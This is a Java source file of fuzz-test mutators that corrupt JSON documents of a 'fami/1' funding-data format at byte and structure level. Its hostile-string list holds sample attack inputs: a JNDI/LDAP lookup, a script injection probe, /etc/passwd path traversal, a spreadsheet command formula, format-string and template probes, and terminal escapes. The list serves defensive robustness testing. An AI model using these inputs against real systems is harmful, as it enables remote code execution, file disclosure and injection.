package eu.fami.robustness.fuzz;

import static java.nio.charset.StandardCharsets.UTF_8;

import eu.fami.robustness.fuzz.Tokens.Kind;
import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;

/**
 * The mutators of the fuzz tests: byte-level damage (bits, bytes, encodings, truncation) and
 * structure-level damage (tokens, types, properties, numbers, nesting, strings, lists), each aimed
 * at one way a hostile or broken document can differ from a valid one.
 */
final class Mutators {
  /** Largest number of bytes a mutation adds by repeating (keeps an input in the megabytes). */
  private static final int MAX_GROWTH = 2 << 20;

  private Mutators() {}

  /** Every mutator. */
  static final List<Mutator> ALL = List.of(
      Mutator.of("flip-bits", Mutators::flipBits),
      Mutator.of("delete-bytes", Mutators::deleteBytes),
      Mutator.of("duplicate-bytes", Mutators::duplicateBytes),
      Mutator.of("insert-bytes", Mutators::insertBytes),
      Mutator.of("invalid-utf8", Mutators::invalidUtf8),
      Mutator.of("encoding", Mutators::encoding),
      Mutator.of("nul-byte", Mutators::nulByte),
      Mutator.of("truncate", Mutators::truncate),
      Mutator.of("delete-token", Mutators::deleteToken),
      Mutator.of("duplicate-token", Mutators::duplicateToken),
      Mutator.of("swap-tokens", Mutators::swapTokens),
      Mutator.of("change-type", Mutators::changeType),
      Mutator.of("unknown-property", Mutators::unknownProperty),
      Mutator.of("duplicate-property", Mutators::duplicateProperty),
      Mutator.of("reorder-properties", Mutators::reorderProperties),
      Mutator.of("huge-number", Mutators::hugeNumber),
      Mutator.of("deep-nesting", Mutators::deepNesting),
      Mutator.of("long-string", Mutators::longString),
      Mutator.of("hostile-string", Mutators::hostileString),
      Mutator.of("near-miss-value", Mutators::nearMissValue),
      Mutator.of("repeat-element", Mutators::repeatElement),
      Mutator.of("splice", Mutators::splice),
      Mutator.of("framing", Mutators::framing));

  // ---------------------------------------------------------------- byte level

  static byte[] flipBits(byte[] in, Random r) {
    if (in.length == 0) {
      return new byte[] {(byte) r.nextInt(256)};
    }
    byte[] out = in.clone();
    for (int k = 1 + r.nextInt(4); k > 0; k--) {
      int i = r.nextInt(out.length);
      out[i] ^= (byte) (1 << r.nextInt(8));
    }
    return out;
  }

  static byte[] deleteBytes(byte[] in, Random r) {
    if (in.length == 0) {
      return in;
    }
    int at = r.nextInt(in.length);
    int len = 1 + r.nextInt(Math.min(16, in.length - at));
    return replace(in, at, at + len, new byte[0]);
  }

  static byte[] duplicateBytes(byte[] in, Random r) {
    if (in.length == 0) {
      return in;
    }
    int at = r.nextInt(in.length);
    int len = 1 + r.nextInt(Math.min(64, in.length - at));
    return insert(in, at, Arrays.copyOfRange(in, at, at + len));
  }

  static byte[] insertBytes(byte[] in, Random r) {
    byte[] junk = new byte[1 + r.nextInt(8)];
    r.nextBytes(junk);
    return insert(in, r.nextInt(in.length + 1), junk);
  }

  private static final byte[][] INVALID_UTF8 = {
    {(byte) 0x80}, {(byte) 0xBF}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xC1, (byte) 0xBF},
    {(byte) 0xE2, (byte) 0x82}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
    {(byte) 0xED, (byte) 0xBF, (byte) 0xBF}, {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
    {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0xFE},
    {(byte) 0xFF}, {(byte) 0xE0, (byte) 0x80, (byte) 0xAF}, {(byte) 0xF0, (byte) 0x9F},
  };

  /** An invalid UTF-8 sequence, inside a string when there is one. */
  static byte[] invalidUtf8(byte[] in, Random r) {
    byte[] bad = INVALID_UTF8[r.nextInt(INVALID_UTF8.length)];
    Tokens t = Tokens.of(in);
    List<Integer> strings = t.indexes(i -> t.get(i).kind == Kind.STRING);
    if (strings.isEmpty() || r.nextInt(4) == 0) {
      return insert(in, r.nextInt(in.length + 1), bad);
    }
    Tokens.Token s = t.get(strings.get(r.nextInt(strings.size())));
    return insert(in, s.start + 1 + r.nextInt(Math.max(1, s.end - s.start - 1)), bad);
  }

  private static final byte[] UTF8_BOM = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};

  /** Byte order marks where they belong and where they do not; other encodings of the text. */
  static byte[] encoding(byte[] in, Random r) {
    switch (r.nextInt(7)) {
      case 0:
        return insert(in, 0, UTF8_BOM);
      case 1:
        return insert(insert(in, 0, UTF8_BOM), 0, UTF8_BOM);
      case 2:
        return insert(in, r.nextInt(in.length + 1), UTF8_BOM);
      case 3:
        return reencode(in, "UTF-16BE", new byte[] {(byte) 0xFE, (byte) 0xFF});
      case 4:
        return reencode(in, "UTF-16LE", r.nextBoolean() ? new byte[] {(byte) 0xFF, (byte) 0xFE}
            : new byte[0]);
      case 5:
        return reencode(in, "UTF-32BE", new byte[0]);
      default:
        return reencode(in, "ISO-8859-1", new byte[0]);
    }
  }

  private static byte[] reencode(byte[] in, String charset, byte[] bom) {
    byte[] text = new String(in, UTF_8).getBytes(Charset.forName(charset));
    return insert(text, 0, bom);
  }

  static byte[] nulByte(byte[] in, Random r) {
    int at = r.nextInt(4) == 0 ? 0 : r.nextInt(in.length + 1);
    return insert(in, at, new byte[] {0});
  }

  static byte[] truncate(byte[] in, Random r) {
    return Arrays.copyOf(in, in.length == 0 ? 0 : r.nextInt(in.length));
  }

  // ---------------------------------------------------------------- tokens

  static byte[] deleteToken(byte[] in, Random r) {
    Tokens t = Tokens.of(in);
    if (t.size() == 0) {
      return insertBytes(in, r);
    }
    Tokens.Token k = t.get(r.nextInt(t.size()));
    return replace(in, k.start, k.end, new byte[0]);
  }

  static byte[] duplicateToken(byte[] in, Random r) {
    Tokens t = Tokens.of(in);
    if (t.size() == 0) {
      return insertBytes(in, r);
    }
    Tokens.Token k = t.get(r.nextInt(t.size()));
    return insert(in, k.end, Arrays.copyOfRange(in, k.start, k.end));
  }

  static byte[] swapTokens(byte[] in, Random r) {
    Tokens t = Tokens.of(in);
    if (t.size() < 2) {
      return insertBytes(in, r);
    }
    int a = r.nextInt(t.size());
    int b = r.nextInt(t.size());
    Tokens.Token x = t.get(Math.min(a, b));
    Tokens.Token y = t.get(Math.max(a, b));
    if (x == y) {
      return deleteToken(in, r);
    }
    ByteArrayOutputStream out = new ByteArrayOutputStream(in.length);
    out.write(in, 0, x.start);
    out.write(in, y.start, y.end - y.start);
    out.write(in, x.end, y.start - x.end);
    out.write(in, x.start, x.end - x.start);
    out.write(in, y.end, in.length - y.end);
    return out.toByteArray();
  }

  private static final String[] OTHER_TYPES = {
    "\"x\"", "\"\"", "0", "-1", "1.5", "true", "false", "null", "{}", "[]", "{\"a\":1}",
    "[1,\"a\",null]", "[[]]", "{\"\":{}}",
  };

  /** A value replaced by a value of another type (or the same type, other shape). */
  static byte[] changeType(byte[] in, Random r) {
    return replaceValue(in, r, OTHER_TYPES[r.nextInt(OTHER_TYPES.length)].getBytes(UTF_8));
  }

  private static final String[] UNKNOWN_NAMES = {
    "unknown", "Code", "code ", "", "format\u0000", "kind2", "\u00e8", "\ud83d\ude00",
    "@type", "$schema", "__proto__", "constructor", "class", "\\u0063ode",
  };

  /** A property of no fami/1 type, after an object's opening brace. */
  static byte[] unknownProperty(byte[] in, Random r) {
    Tokens t = Tokens.of(in);
    List<Integer> objects = t.indexes(i -> in[t.get(i).start] == '{');
    if (objects.isEmpty()) {
      return changeType(in, r);
    }
    int open = objects.get(r.nextInt(objects.size()));
    boolean empty = open + 1 >= t.size() || t.get(open + 1).kind == Kind.CLOSE;
    String name = UNKNOWN_NAMES[r.nextInt(UNKNOWN_NAMES.length)];
    String value = OTHER_TYPES[r.nextInt(OTHER_TYPES.length)];
    String member = "\"" + name + "\":" + value + (empty ? "" : ",");
    return insert(in, t.get(open).end, member.getBytes(UTF_8));
  }

  /** A property repeated right after itself, with its value or another. */
  static byte[] duplicateProperty(byte[] in, Random r) {
    Tokens t = Tokens.of(in);
    List<Integer> names = t.indexes(t::isName);
    if (names.isEmpty()) {
      return unknownProperty(in, r);
    }
    int n = names.get(r.nextInt(names.size()));
    int end = n + 2 < t.size() ? t.valueEnd(n + 2) : n + 1;
    byte[] member = Arrays.copyOfRange(in, t.get(n).start, t.get(end).end);
    if (r.nextBoolean()) {
      String name = new String(in, t.get(n).start, t.get(n).end - t.get(n).start, UTF_8);
      member = (name + ":" + OTHER_TYPES[r.nextInt(OTHER_TYPES.length)]).getBytes(UTF_8);
    }
    return insert(in, t.get(end).end, concat(",".getBytes(UTF_8), member));
  }

  /** Two properties of one object swapped: {@code kind} last, {@code projects} before programme. */
  static byte[] reorderProperties(byte[] in, Random r) {
    Tokens t = Tokens.of(in);
    List<Integer> names = t.indexes(t::isName);
    if (names.size() < 2) {
      return swapTokens(in, r);
    }
    int a = names.get(r.nextInt(names.size()));
    int aEnd = a + 2 < t.size() ? t.valueEnd(a + 2) : a + 1;
    List<Integer> after = new ArrayList<>();
    int depth = 0;
    for (int i = aEnd + 1; i < t.size() && depth >= 0; i++) {
      Kind k = t.get(i).kind;
      if (depth == 0 && t.isName(i)) {
        after.add(i);
      }
      depth += k == Kind.OPEN ? 1 : k == Kind.CLOSE ? -1 : 0;
    }
    if (after.isEmpty()) {
      return duplicateProperty(in, r);
    }
    int b = after.get(r.nextInt(after.size()));
    int bEnd = b + 2 < t.size() ? t.valueEnd(b + 2) : b + 1;
    int[] x = {t.get(a).start, t.get(aEnd).end};
    int[] y = {t.get(b).start, t.get(bEnd).end};
    ByteArrayOutputStream out = new ByteArrayOutputStream(in.length);
    out.write(in, 0, x[0]);
    out.write(in, y[0], y[1] - y[0]);
    out.write(in, x[1], y[0] - x[1]);
    out.write(in, x[0], x[1] - x[0]);
    out.write(in, y[1], in.length - y[1]);
    return out.toByteArray();
  }

  // ---------------------------------------------------------------- values

  private static final String[] HUGE_NUMBERS = {
    "1e400", "-1e400", "1e100000000", "1E-100000000", "-1e+2147483648", "1e-2147483649",
    "0e999999999", "-0", "-0.0", "9999999999999.99", "9999999999999.995", "10000000000000",
    "1.005", "0.001", "1e12", "1e13", "123456789012345678901234567890", "2147483648",
    "9223372036854775808", "-9223372036854775809", "999999999", "1000000000", "1E2", "-0.01",
    "1." + "0".repeat(97) + "1", "9".repeat(100), "9".repeat(101), "9".repeat(1000),
    "0." + "0".repeat(5000) + "1", "1" + "0".repeat(100_000),
  };

  /** A number (or any value) replaced by a huge, tiny, long or borderline number. */
  static byte[] hugeNumber(byte[] in, Random r) {
    byte[] number = HUGE_NUMBERS[r.nextInt(HUGE_NUMBERS.length)].getBytes(UTF_8);
    Tokens t = Tokens.of(in);
    List<Integer> numbers = t.indexes(i -> t.get(i).kind == Kind.NUMBER);
    if (numbers.isEmpty() || r.nextInt(4) == 0) {
      return replaceValue(in, r, number);
    }
    Tokens.Token k = t.get(numbers.get(r.nextInt(numbers.size())));
    return replace(in, k.start, k.end, number);
  }

  private static final int[] DEPTHS = {63, 64, 65, 1000, 10_000, 100_000};

  /** A value replaced by deeply nested arrays or objects, balanced or not. */
  static byte[] deepNesting(byte[] in, Random r) {
    int depth = DEPTHS[r.nextInt(DEPTHS.length)];
    String nested;
    switch (r.nextInt(3)) {
      case 0:
        nested = "[".repeat(depth) + "]".repeat(depth);
        break;
      case 1:
        nested = "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
        break;
      default:
        nested = "[{\"partners\":".repeat(depth);
    }
    return replaceValue(in, r, nested.getBytes(UTF_8));
  }

  private static final int[] LENGTHS = {999, 1000, 1001, 99_999, 100_000, 100_001, 1_000_000};
  private static final String[] UNITS = {"a", "\u00e8", "\ud83d\ude00", "\\u00e8", "\\n", " "};

  /** A string or a property name replaced by a long one (around the limits, or far above). */
  static byte[] longString(byte[] in, Random r) {
    int length = LENGTHS[r.nextInt(LENGTHS.length)];
    String unit = UNITS[r.nextInt(UNITS.length)];
    int units = unit.startsWith("\ud83d") ? length / 2 : length;
    byte[] s = ("\"" + unit.repeat(units) + "\"").getBytes(UTF_8);
    Tokens t = Tokens.of(in);
    List<Integer> strings = t.indexes(i -> t.get(i).kind == Kind.STRING);
    if (strings.isEmpty()) {
      return replaceValue(in, r, s);
    }
    Tokens.Token k = t.get(strings.get(r.nextInt(strings.size())));
    return replace(in, k.start, k.end, s);
  }

  private static final String[] HOSTILE = {
    "\\ud800", "\\udc00\\ud800", "\\ud83d", "\\u0000", "\u0001", "\t", "\\x41", "\\u12", "\\",
    "\\\\", "\\\"", "${jndi:ldap://example.invalid/a}", "{cap}", "{0}", "{{partner}}", "#{1+1}",
    "${1+1}", "%s%n%x", "<script>alert(1)</script>", "../../../../etc/passwd",
    "file:///etc/passwd", "http://example.invalid/x", "\u202Eevil", "=cmd|' /C calc'!A0",
    "a;b,c\r\nd", "\\u2028\\u2029", "\ufeff", "\ufffd", "\u00e8\u0300", "~0~1/", "/projects/0",
    "\\u001b[2J\\u001b]0;title\\u0007", "\\n  ERROR FAMI-BUD-004 1:1 /x\\n      forged", "\\u202e",
    "\\u0085",
  };

  /** A string's content replaced by text that is hostile to messages, renderers or the parser. */
  static byte[] hostileString(byte[] in, Random r) {
    String h = HOSTILE[r.nextInt(HOSTILE.length)];
    Tokens t = Tokens.of(in);
    List<Integer> strings = t.indexes(i -> t.get(i).kind == Kind.STRING);
    if (strings.isEmpty()) {
      return replaceValue(in, r, ("\"" + h + "\"").getBytes(UTF_8));
    }
    Tokens.Token k = t.get(strings.get(r.nextInt(strings.size())));
    return replace(in, k.start + 1, Math.max(k.start + 1, k.end - 1), h.getBytes(UTF_8));
  }

  private static final String[] NEAR_STRINGS = {
    "2023-02-29", "2024-02-30", "2023-13-01", "0000-01-01", "9999-12-31", "+10000-01-01",
    "2023-1-1", "2023-01-01T00:00:00Z", "2024-Q0", "2024-Q5", "2024-q1", "99999-Q1", "0000-Q1",
    "fami/1", "fami/1.0", "fami/1.1", "fami/1.999999999999999999999", "fami/2", "FAMI/1",
    "project", "dataset", "call", "programme", "report", "Dataset", "2021-2027", "2014-2020",
    "2021-2028", "OS1", "OS2", "OS3", "OS4", "TA", "ON2", "2.d", "2.m", "H.a", "IT", "ITC3",
    "ITZZ", "XK", "TN", "lead", "LEAD", "PARTNER", "ASSOCIATE", "EU_AMIF", "INDIRECT", "STAFF",
    "IT_TAX_CODE", "OTHER", "", " ", "PROG-FL-LIG", "E89F18000510007", "80003170661",
    "RSSMRA85T10A562S", "001", "003", "II.004", "O.2.3.1", "R.2.8", "CLOSED", "WITHDRAWN",
    "FLAT_RATE_STAFF_COSTS", "NONE", "01",
  };
  private static final String[] NEAR_NUMBERS = {
    "0", "-0.01", "0.001", "0.5", "0.75", "0.7500001", "1", "1.01", "100", "999999999",
    "-1", "36", "42", "1000000", "3000000.01", "0.07", "0.15", "0.25",
  };

  /** A value replaced by one a fami/1 document could hold, valid or just off. */
  static byte[] nearMissValue(byte[] in, Random r) {
    Tokens t = Tokens.of(in);
    List<Integer> values = t.indexes(i -> t.isValue(i) && t.get(i).kind != Kind.OPEN);
    if (values.isEmpty()) {
      return changeType(in, r);
    }
    Tokens.Token k = t.get(values.get(r.nextInt(values.size())));
    String v = k.kind == Kind.NUMBER || r.nextInt(4) == 0
        ? NEAR_NUMBERS[r.nextInt(NEAR_NUMBERS.length)]
        : "\"" + NEAR_STRINGS[r.nextInt(NEAR_STRINGS.length)] + "\"";
    return replace(in, k.start, k.end, v.getBytes(UTF_8));
  }

  private static final int[] COPIES = {2, 10, 100, 1000, 10_000, 100_000};

  /** An array's first element repeated many times (list limits, quadratic rules). */
  static byte[] repeatElement(byte[] in, Random r) {
    Tokens t = Tokens.of(in);
    List<Integer> arrays = t.indexes(i -> in[t.get(i).start] == '['
        && i + 1 < t.size() && t.isValue(i + 1));
    if (arrays.isEmpty()) {
      return duplicateToken(in, r);
    }
    int open = arrays.get(r.nextInt(arrays.size()));
    int[] element = t.valueRange(open + 1);
    byte[] one = concat(",".getBytes(UTF_8), Arrays.copyOfRange(in, element[0], element[1]));
    int copies = Math.min(COPIES[r.nextInt(COPIES.length)], Math.max(1, MAX_GROWTH / one.length));
    ByteArrayOutputStream many = new ByteArrayOutputStream(one.length * copies);
    for (int i = 0; i < copies; i++) {
      many.writeBytes(one);
    }
    return insert(in, element[1], many.toByteArray());
  }

  /** A value replaced by a copy of another value of the same document (type confusion). */
  static byte[] splice(byte[] in, Random r) {
    Tokens t = Tokens.of(in);
    List<Integer> values = t.indexes(t::isValue);
    if (values.size() < 2) {
      return changeType(in, r);
    }
    int[] from = t.valueRange(values.get(r.nextInt(values.size())));
    int[] to = t.valueRange(values.get(r.nextInt(values.size())));
    return replace(in, to[0], to[1], Arrays.copyOfRange(in, from[0], from[1]));
  }

  private static final String[] BEFORE = {"//c\n", "/* c */", ")]}'\n", "'", "\u00a0", "\n\n\n"};
  private static final String[] AFTER = {
    " x", "{}", "[]", "/* c */", "// c", ",", "]", "}", "\u0000", "\n\n", "null", "\"",
  };

  /** Content around the document: comments, prefixes, a second document, trailing commas. */
  static byte[] framing(byte[] in, Random r) {
    switch (r.nextInt(4)) {
      case 0:
        return insert(in, 0, BEFORE[r.nextInt(BEFORE.length)].getBytes(UTF_8));
      case 1:
        return insert(in, in.length, AFTER[r.nextInt(AFTER.length)].getBytes(UTF_8));
      case 2:
        return concat(in, in);
      default:
        Tokens t = Tokens.of(in);
        List<Integer> closes = t.indexes(i -> t.get(i).kind == Kind.CLOSE);
        if (closes.isEmpty()) {
          return insert(in, in.length, ",".getBytes(UTF_8));
        }
        return insert(in, t.get(closes.get(r.nextInt(closes.size()))).start,
            ",".getBytes(UTF_8));
    }
  }

  // ---------------------------------------------------------------- helpers

  /** A random value of {@code in} (or, with none, a random position) replaced by {@code with}. */
  private static byte[] replaceValue(byte[] in, Random r, byte[] with) {
    Tokens t = Tokens.of(in);
    List<Integer> values = t.indexes(t::isValue);
    if (values.isEmpty()) {
      return insert(in, r.nextInt(in.length + 1), with);
    }
    int[] range = t.valueRange(values.get(r.nextInt(values.size())));
    return replace(in, range[0], range[1], with);
  }

  static byte[] replace(byte[] in, int start, int end, byte[] with) {
    byte[] out = new byte[in.length - (end - start) + with.length];
    System.arraycopy(in, 0, out, 0, start);
    System.arraycopy(with, 0, out, start, with.length);
    System.arraycopy(in, end, out, start + with.length, in.length - end);
    return out;
  }

  static byte[] insert(byte[] in, int at, byte[] what) {
    return replace(in, at, at, what);
  }

  private static byte[] concat(byte[] a, byte[] b) {
    return insert(a, a.length, b);
  }
}
